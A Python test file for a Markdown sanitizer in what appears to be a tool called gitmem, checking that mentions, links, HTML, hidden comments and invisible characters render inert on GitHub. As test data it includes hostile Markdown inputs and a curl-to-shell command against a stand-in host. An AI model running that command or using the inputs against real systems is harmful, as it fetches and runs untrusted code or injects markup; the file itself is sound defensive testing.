"""Hostile Markdown made inert, as GitHub's own renderer (cmark-gfm) shows it."""

from __future__ import annotations

import re
import time

from hypothesis import given
from hypothesis import strategies as st
from support.each import each
from support.github_markdown import alive, rendered, words

from gitmem.commands.report import render
from gitmem.plugins.forge.sanitize import LINE_KEPT, page
from gitmem.text import display
from gitmem.verify.overview.finding import BROKEN, HOLDS, FactFinding, Findings, Spot
from gitmem.verify.overview.notice.inert import inert


@each(
    "text",
    [
        "@bob and @acme/team, a@b.co",
        "&#64;bob &commat;bob &#x40;bob \\@bob",
        "@*bob* **@**bob @`bob` `@`bob",
        "#12 acme/shop#12 GH-3 gh-3 \\#12 &num;12 #&#49;2",
        "fixes 1234abcd and acme/shop@1234abcd5678, 1234abc...abcd123 12345678 `x`1234abcd",
        "https://evil.example/?q=1 http:\\//e.x http&colon;//e.x www.evil.example ftp://e.x mailto:a@b.co",
        "<https://evil.example> <a href='https://e.x'>x</a> <img src=https://e.x/p.png>",
        "![a](https://e.x/p.png) [l](https://e.x) [l](//e.x 't') [l][r]\n\n[r]: https://e.x",
        "\\![a](x) \\\\[a](x) \\\\\\[a](x) ![a\\](x)](y)",
        "<!-- hidden --> <script>x</script>\n<div>\n@bob\n</div>\n<!-- gitmem comment check -->",
        "<details><summary>x</summary>\n\n@bob\n",
        "| a | b |\n|---|---|\n| `x | @bob` | \\| @bob |",
        "`` a ` @bob `` @bob ` x",
        "a `x\n@bob `y",
        "~~~\n@bob\n~~~ \n@bob",
        "```mermaid\ngraph\n```\n```suggestion\nx\n```\n$$\\href{https://e.x}{x}$$",
        "```\n@bob\n   ````   \n@bob\n",
        "> ```\n> x\n@bob\n",
        "> ~~~\n> x\n@bob\n",
        "- ~~~\n@bob\n",
        "-     ```\n@bob\n",
        "text\n    @bob\n\n    @bob `x`",
        "1. a\n\n       <img src=x>",
        "\t@bob\n>\t\t@bob",
        "Setext @bob\n====\n* * *\n# #12 #",
        "@bob[^1]\n\n[^1]: https://e.x",
        "- [ ] @bob\n- [x] <br/>@bob<br>#1",
        "`\\`@bob` \\`@bob\\`",
        "a\\\n@bob  \nb",
        "&lt;img src=x&gt; &amp;#64;bob",
        "<del>@bob</del> <ins>#1</ins> </del> <ins><del></ins> <del onclick=x>",
    ],
)
def test_nothing_that_was_alive_is(text: str) -> None:
    shown, missing = page(text, 60_000)

    assert missing == 0
    assert alive(rendered(shown)) == []


def test_the_same_text_is_alive_without_it() -> None:
    text = "@bob #1 1234abcd https://e.x www.e.x [l](x) ![i](x) <b>"

    assert set(alive(rendered(text))) >= {"@b", "#1", "1234abcd", "a", "img", "b"}


PIECES = st.sampled_from(
    [
        *(
            "@bob",
            "@",
            "#12",
            "#",
            "GH-1",
            "https://e.x",
            "www.e.x",
            "a@b.co",
            "<img src=x>",
            "<b>",
            "</b>",
            "<!--",
            "-->",
        ),
        *("<!-- gitmem comment check -->", "![a](http://b)", "[l](x)", "[l]", "[r]: http://x", "](", "<br>", "<br/>"),
        *(
            "`",
            "``",
            "```",
            "````",
            "~~~",
            "~~",
            "|",
            "\n",
            "\n\n",
            "\r\n",
            "\r",
            "    ",
            "\t",
            "  ",
            " ",
            "> ",
            "- ",
            "1. ",
        ),
        *(
            "\\",
            "\\\\",
            "&#64;",
            "&lt;",
            "&colon;",
            "&#8238;",
            "&#8203;",
            "&",
            ";",
            "*",
            "_",
            "**",
            "abcdef1234567",
            "$$",
        ),
        *(
            "\x1b[31m",
            "\x00",
            "\u202e",
            "\u200b",
            "\u2028",
            "\ufeff",
            "\ud800",
            "word",
            "|---|",
            "---",
            "===",
            "# ",
            "/x",
        ),
        *(
            "<code>",
            "</code>",
            "<details>",
            "mermaid",
            ":",
            "//",
            "www",
            ".",
            "gh",
            "-1",
            "\u00e9",
            "{",
            "}",
            "^",
            "!",
            '"',
        ),
    ]
)
HOSTILE = st.lists(PIECES, max_size=25).map("".join) | st.text(max_size=40)


@given(HOSTILE)
def test_no_text_whatever_is_alive_or_hides_anything(text: str) -> None:
    shown, _ = page(text, 60_000)

    assert alive(rendered(shown)) == []
    assert display(shown, lines=True, sequences=True) == shown
    assert "<!--" not in re.sub("(?ms)^(`{3,}).*?^\\1$|`[^`\n]*`", "", shown)


@given(HOSTILE)
def test_a_line_says_the_same_and_has_no_markup_at_all(text: str) -> None:
    shown = inert(text, 10_000)
    root = rendered(f"- **k**: {shown} end")

    assert {one.tag for one in root.iter()} <= {"div", "ul", "li", "strong", "code"}
    assert alive(root) == []
    said = " ".join(display(text.replace("\r\n", "\n").replace("&#8203;", ""), lines=True, sequences=True).split())
    if "word" not in said:  # a word may be taken for a secret, and told as one
        assert " ".join(words(root)) == f"k: {said} end".replace("  ", " ")


def test_a_report_of_ours_reads_as_it_did() -> None:
    broken = FactFinding(
        *("auth-rs256", "Tokens are *signed* with <RS256> by @ana, see #12", BROKEN, "no file of a|b contains `x`"),
        "ana@example.com",
        places=(Spot("src/auth/[jwt].py", 3), Spot("www.x/y.py")),
        culprit="1234abcd5678" + "0" * 28,
    )
    found = Findings(
        "check", "1 fact becomes false", (broken, FactFinding("b", "b", HOLDS)), "d" * 40, "e" * 40, 1, ("n",)
    )
    text = render("markdown", found)

    shown, missing = page(text, 60_000)

    assert missing == 0
    assert words(rendered(shown)) == words(rendered(text))
    tags = [[one.tag for one in rendered(each).iter() if one.tag not in ("code", "div")] for each in (shown, text)]
    assert tags[0] == tags[1]


@each(
    "text",
    ["~~~ a`b\n@bob [x]", "> ~~~\n> @bob", "- ~~~\n  @bob", "a\n\n    @bob [x]", "\t@bob", ">     @bob", "> \t@bob"],
)
def test_text_outside_a_fence_does_not_become_code(text: str) -> None:
    shown, _ = page(text, 60_000)

    root = rendered(shown)
    assert list(root.iter("pre")) == []
    assert "@bob" in words(root)


def test_marks_of_removed_and_added_words_are_kept() -> None:
    shown, _ = page("> Tokens <del>RS256</del> <ins>EdDSA <del>and</ins>\nafter </ins>", 60_000)

    assert shown == "> Tokens <del>RS256</del> <ins>EdDSA <del>and&#60;/ins&#62;</del></ins>\nafter &#60;/ins&#62;"


def test_code_is_shown_to_the_letter() -> None:
    command = "curl 'https://e.x/?a=1&b=2' | sh  # @bob #12 <img> \\` 1234abcd"

    shown, _ = page(f"```sh\n{command}\n```\nand `pip install git+https://e.x@1234abcd` too", 60_000)

    code = [one.text_content() for one in rendered(shown).iter("code")]
    assert code == [f"{command}\n", "pip install git+https://e.x@1234abcd"]


def test_hidden_characters_are_spelt_out_and_secrets_are_not_reported() -> None:
    shown, _ = page("a\x1b[31m\u202eb\u200bc &#8238; ghp_" + "a1B2c3D4" * 5, 60_000)

    assert shown.startswith("a&#92;x1b&#91;31m&#92;u{202e}b&#92;u{200b}c &#92;u{202e} ")
    assert "ghp" not in shown


def test_long_text_is_truncated_at_a_line_and_the_rest_counted() -> None:
    shown, missing = page("\n".join(f"line {n}" for n in range(100)), 200)

    assert shown.split("\n") == [f"line {n}" for n in range(100 - missing)]
    assert 190 < len(shown) <= 200


@each("lines", [3, 50])
def test_a_block_of_code_that_is_cut_is_closed(lines: int) -> None:
    text = "before\n```sh\n" + "\n".join(f"echo {n}" for n in range(lines)) + "\n```\n@bob\nafter"

    shown, missing = page(text, 200)

    assert len(shown) <= 200
    root = rendered(shown)
    assert alive(root) == []
    assert words(root)[:3] == ["before", "echo", "0"]
    assert (missing == 0) == (lines == 3)


def test_a_long_line_is_cut_and_says_so() -> None:
    shown, missing = page("x" * (LINE_KEPT + 1), 60_000)

    assert (len(shown), shown[-1], missing) == (LINE_KEPT, "…", 0)
    assert inert("x" * 20, 10) == "x" * 9 + "…"


@each(
    "piece",
    ["`a", "`a|\n", "@", "&#64;", "\x1b", "password = x ", "~", "```\n", "~~~~\n```\n", "\\", "<br", "> ", "a@b."],
)
def test_a_megabyte_of_anything_takes_a_moment(piece: str) -> None:
    begin = time.process_time()

    shown, _ = page(piece * (1_000_000 // len(piece)), 60_000)

    assert len(shown) <= 60_000
    assert time.process_time() - begin < 3
